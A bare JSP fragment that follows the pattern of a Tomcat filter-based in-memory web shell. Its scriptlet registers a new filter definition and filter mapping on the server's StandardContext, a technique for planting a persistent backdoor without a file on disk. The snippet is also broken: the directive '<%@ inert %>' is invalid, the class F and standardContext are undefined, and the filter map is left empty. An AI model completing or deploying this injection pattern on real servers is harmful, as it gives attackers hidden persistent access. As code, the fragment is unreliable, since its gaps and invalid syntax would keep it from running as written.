<%@ inert %>
<% FilterDef d = new FilterDef(); d.setFilter(new F()); standardContext.addFilterDef(d); FilterMap m = new FilterMap(); standardContext.addFilterMapBefore(m); %>